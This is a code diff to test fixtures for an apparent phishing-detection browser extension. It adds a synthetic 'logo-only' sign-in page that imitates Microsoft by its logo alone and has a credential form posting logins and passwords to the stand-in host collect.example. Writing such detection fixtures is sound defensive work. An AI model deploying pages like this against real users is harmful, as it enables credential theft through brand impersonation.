@@ -2,6 +2,11 @@
 // extension test serves them (by path, under any mapped host): each is a regression for a kind of
 // page, not a copy of one (the detection benchmark's corpus holds real ones).
 
+import { DEMO_MICROSOFT_LOGO } from './reference-logo.ts';
+
+/** A kit's copy of the brand's reference logo. */
+const REFERENCE_LOGO = DEMO_MICROSOFT_LOGO.toString('base64');
+
 const LOGO = `<svg role="img" aria-label="Microsoft" width="108" height="24" xmlns="http://www.w3.org/2000/svg"><rect width="108" height="24" fill="#f25022"/></svg>`;
 const CARD_STYLE = `<style>body{font-family:sans-serif;background:#f2f2f2;margin:0;display:grid;place-items:center;min-height:100vh}
 .card{background:#fff;padding:40px;width:340px;box-shadow:0 2px 6px #0003}input{display:block;width:100%;margin:10px 0;padding:8px}</style>`;
@@ -56,6 +61,12 @@ export const KIT_PAGES: Record<string, string> = {
   '/kit/huge': page(
     'Sign in to your Microsoft account',
     `${'<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>'.repeat(30_000)}${card(PASSWORD_FORM)}`,
+  ),
+  // The brand only as a picture: its logo (the demo policy's reference logo, drawn at another size)
+  // with no alt text and no word of the brand anywhere; the form posts to another site.
+  '/kit/logo-only': page(
+    'Sign in',
+    `<div class="card"><img src="data:image/svg+xml;base64,${REFERENCE_LOGO}" width="64" height="64" alt=""><h1>Sign in to your account</h1><form action="https://collect.example/next.php" method="post"><input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form></div>`,
   ),
   // Weaker evidence: the brand named in the title and the form's words only, on a site with its own links.
   '/kit/suspicious': page(
